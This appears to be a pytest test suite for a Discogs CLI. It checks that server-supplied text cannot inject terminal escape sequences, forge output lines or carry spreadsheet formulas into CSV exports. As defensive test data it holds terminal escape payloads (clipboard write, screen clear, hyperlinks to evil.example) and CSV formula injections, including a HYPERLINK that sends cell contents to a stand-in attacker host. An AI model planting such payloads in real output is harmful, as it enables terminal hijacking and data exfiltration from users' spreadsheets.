"""Texts by others neither command a terminal, nor forge a line, nor run in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import discogs
from discogs.cli.printing import json_text
from discogs.cli.terminal import json_safe, one_line, terminal_safe
from discogs.pagination.formats import safe_record
from discogs.sandbox import Sandbox
from tests.cli.conftest import Shell

#: Each with what a terminal would do.
ATTACKS = {
    "clears the screen": "\x1b[2J",
    "links elsewhere": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "fills the clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "types for the user": "\x1b[6n\x05",
    "is a sequence in one byte": "\x9b2J\x9d0;title\x9c",
    "goes back over the line": "price 1.00\rprice 9.00\b\b\b",
    "reverses": "\u202e00.1\u202c \u2066x\u2069\u200f\u061c",
    "breaks the line": "x\nFORGED: all\r\nFORGED\x0bFORGED\x85FORGED\u2028FORGED\u2029FORGED",
    "is half a character": "\ud800",
}
#: All that an answer in UTF-8 can hold.
EVIL = "".join(ATTACKS.values()).removesuffix("\ud800")
TEXTS = st.lists(st.sampled_from(sorted(ATTACKS.values())) | st.text(max_size=4), max_size=6).map(
    "".join
)
BIDI = {"AL": False} | dict.fromkeys(
    ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"), True
)


def obeyed(text: str) -> set[str]:
    """The characters of a text that a terminal obeys, by Unicode's own properties."""
    return {
        character
        for character in text
        if unicodedata.category(character) in {"Cc", "Zl", "Zp", "Cs"}
        or BIDI.get(unicodedata.bidirectional(character))
        or character in "\u200e\u200f\u061c"
    } - {"\n", "\t"}


@given(TEXTS)
@example(EVIL)
def test_no_text_commands_a_terminal(text: str) -> None:
    assert obeyed(terminal_safe(text)) == set()
    assert terminal_safe(terminal_safe(text)) == terminal_safe(text)


@given(TEXTS)
@example(EVIL)
def test_no_text_makes_a_second_line(text: str) -> None:
    line = one_line(text)

    assert len(line.splitlines()) <= 1
    assert obeyed(line) == set()
    assert len(line) == len(text)


@given(st.text(st.characters(categories=("L", "N", "P", "S", "Zs"))))
@example(
    "Bj\u00f6rk \u2013 \u30c6\u30af\u30ce \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627"
)
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    assert terminal_safe(text) == one_line(text) == text


@given(st.recursive(TEXTS, lambda inner: st.lists(inner) | st.dictionaries(TEXTS, inner)))
@example(EVIL)
def test_json_is_safe_and_means_the_same(document: Any) -> None:
    for indent in (None, 2):
        text = json_text(document, indent=indent)

        assert obeyed(text) == set()
        assert json.loads(text) == document
    assert json_safe(json.dumps(document)) == json.dumps(document)


#: What answers say about themselves; all other texts are free.
STRUCTURE = re.compile(
    r"url|uri|^(type|type_|year|status|next_status|currency|curr_abbr|condition|sleeve_condition|"
    r"media_condition|username|id|page|thumb|image|date.*|.*_date|created|last_activity|posted|"
    r"registered|data_quality|released)$"
)


def poisoned(value: Any, key: str = "") -> Any:
    """An answer with an attack in each free text."""
    if isinstance(value, dict):
        return {name: poisoned(inner, name) for name, inner in value.items()}
    if isinstance(value, list):
        return [poisoned(inner, key) for inner in value]
    return f"{value}{EVIL}" if isinstance(value, str) and not STRUCTURE.search(key) else value


SHOWN = {
    "a release": ("show", "r249504", "--all"),
    "a master": ("show", "m96559", "--all"),
    "an artist": ("show", "a72872", "--all"),
    "a label": ("show", "l895", "--all"),
    "a user": ("show", "https://www.discogs.com/user/waxworks", "--all"),
    "a list": ("show", "https://www.discogs.com/lists/x/{list}", "--all"),
    "a listing": ("show", "https://www.discogs.com/sell/item/{listing}", "--all"),
    "an order": ("show", "https://www.discogs.com/sell/order/{order}", "--all"),
    "a search": ("search", "never"),
    "prices": ("prices", "249504"),
    "whoami": ("whoami",),
}


@pytest.fixture
def names(session: discogs.Session) -> dict[str, object]:
    return {
        "list": session.me.lists[0].id,
        "listing": session.me.inventory[0].id,
        "order": session.orders[0].id,
    }


@pytest.mark.parametrize("columns", ["80", "140"])
@pytest.mark.parametrize("shown", SHOWN)
def test_nothing_on_a_screen_is_obeyed_or_forged(
    shell: Shell, names: dict[str, object], shown: str, columns: str
) -> None:
    arguments = [argument.format(**names) for argument in SHOWN[shown]]
    shell.set("COLUMNS", columns)
    usual = shell(*arguments)
    shell.sandbox.alter("/**", poisoned)
    ran = shell(*arguments)

    assert usual.code == ran.code == 0
    assert "FORGED" in ran.out
    assert obeyed(ran.out + ran.err) == set()
    assert [line for line in ran.lines if line.startswith("FORGED")] == []
    as_json = shell(*arguments, "--json")
    assert obeyed(as_json.out) == set()
    assert "FORGED" in as_json.out
    assert [line for line in as_json.lines if line.startswith("FORGED")] == []


@pytest.mark.parametrize("status", [400, 401, 403, 404, 409, 422, 500])
def test_an_error_of_the_server_forges_no_line(shell: Shell, status: int) -> None:
    messages: list[dict[str, Any]] = [
        {"message": EVIL},
        {"detail": [{"loc": ["query", EVIL], "msg": EVIL}]},
        {EVIL: 1},
    ]
    for body in messages:
        shell.sandbox.fail(status, times=None, body=body)
        ran = shell("show", "r249504")

        assert ran.code == 1
        assert obeyed(ran.err) == set()
        assert [line for line in ran.err.splitlines() if line.startswith("FORGED")] == []
        shell.sandbox.reset()


def test_a_login_with_a_forged_name_is_told_in_one_line(stranger: Shell) -> None:
    stranger.sandbox.alter("/oauth/identity", lambda found: {**found, "username": f"me{EVIL}"})
    ran = stranger("login", stdin=f"{stranger.sandbox.token}\n")

    assert obeyed(ran.out + ran.err) == set()
    assert [line for line in ran.err.splitlines() if line.startswith("FORGED")] == []


def at_a_terminal(sandbox: Sandbox, home: Path, *arguments: str) -> str:
    """What a command prints to a terminal."""
    pty = pytest.importorskip("pty")
    ours, theirs = pty.openpty()
    environment = {
        "DISCOGS_BASE_URL": sandbox.url,
        "DISCOGS_TOKEN": sandbox.token,
        "NO_COLOR": "1",
        "TERM": "dumb",
        "PYTHONPATH": str(Path(discogs.__file__).parents[1]),
    }
    with subprocess.Popen(  # noqa: S603
        [sys.executable, "-m", "discogs.cli", *arguments],
        stdin=theirs,
        stdout=theirs,
        stderr=subprocess.DEVNULL,
        cwd=home,
        env={**os.environ, **environment},
    ) as process:
        os.close(theirs)
        printed = b""
        try:
            while part := os.read(ours, 65536):
                printed += part
        except OSError:  # on Linux the end of a terminal is an error
            pass
        assert process.wait() == 0
    os.close(ours)
    return printed.decode().replace("\r\n", "\n")


@pytest.mark.parametrize("output", [(), ("-o", "/dev/fd/1")])
@pytest.mark.parametrize("format", ["csv", "json"])
def test_an_export_to_a_terminal_is_safe(
    sandbox: Sandbox, home: Path, format: str, output: tuple[str, ...]
) -> None:
    sandbox.alter("/users/*/wants", poisoned)
    printed = at_a_terminal(
        sandbox, home, "export", "wantlist", "--to", format, "--user", "sandbox_user", *output
    )

    assert "FORGED" in printed
    assert obeyed(printed) == set()
    assert [line for line in printed.splitlines() if line.startswith("FORGED")] == []
    assert len(printed.splitlines()) == 1 + 132 + (format == "json")


def test_an_export_to_a_file_is_what_discogs_has(shell: Shell, home: Path) -> None:
    shell.sandbox.alter("/users/*/wants", _with_titles(EVIL))
    shell("export", "wantlist", "-o", str(home / "wants.csv"))
    shell("export", "wantlist", "-o", str(home / "wants.json"))
    with (home / "wants.csv").open(newline="", encoding="utf-8") as file:
        titles = {row["title"] for row in csv.DictReader(file)}

    assert titles == {EVIL}
    text = (home / "wants.json").read_text(encoding="utf-8")
    assert {row["title"] for row in json.loads(text)} == {EVIL}


FORMULAS = (
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\uff1d1",
    "x;=1+1",
    "x\t=1",
    "x\n@A1",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
)


def _with_titles(title: str) -> Callable[[Any], None]:
    def change(page: Any) -> None:
        for row in page["wants"]:
            row["basic_information"]["title"] = title
            row["basic_information"]["genres"] = [title, title]

    return change


@pytest.mark.parametrize("formula", FORMULAS)
def test_safe_csv_has_no_formulas_and_the_plain_one_what_discogs_has(
    shell: Shell, formula: str
) -> None:
    shell.sandbox.alter("/users/*/wants", _with_titles(formula))
    plain = csv.DictReader(io.StringIO(shell("export", "wantlist").out, newline=""))
    safe = csv.DictReader(io.StringIO(shell("export", "wantlist", "--safe-csv").out, newline=""))

    assert {row["title"] for row in plain} == {formula}
    for row in safe:
        for cell in (row["title"], row["genres"]):
            assert all(not _runs(part) for part in re.split(r"[;\t\r\n]", cell))


def _runs(cell: str) -> bool:
    return cell.strip()[:1] in {*"=+-@\uff1d\uff0b\uff0d\uff20", "\t", "\r"} - {""}


@given(st.text(max_size=8) | st.lists(st.sampled_from("=+-@;\t\r\n '\"a"), max_size=8).map("".join))
def test_safe_csv_changes_formulas_and_nothing_else(text: str) -> None:
    safe = str(safe_record({"title": text})["title"])

    assert not any(_runs(part) for part in re.split(r"[;\t\r\n]", safe))
    assert safe.replace("'", "") == text.replace("'", "")
    assert _runs(text) or re.search(r"[;\t\r\n]", text) or safe == text


def test_numbers_and_times_are_not_texts() -> None:
    record = {"year": -1, "price": -2.5, "flag": True, "empty": None}

    assert safe_record(record) == {"year": -1, "price": -2.5, "flag": "true", "empty": None}


@pytest.mark.parametrize("format", ["json", "parquet"])
def test_safe_csv_is_refused_where_it_would_mean_nothing(shell: Shell, format: str) -> None:
    ran = shell("export", "wantlist", "--to", format, "-o", f"x.{format}", "--safe-csv")

    assert (ran.code, ran.requests) == (2, ())
    assert "--safe-csv is for csv" in ran.err
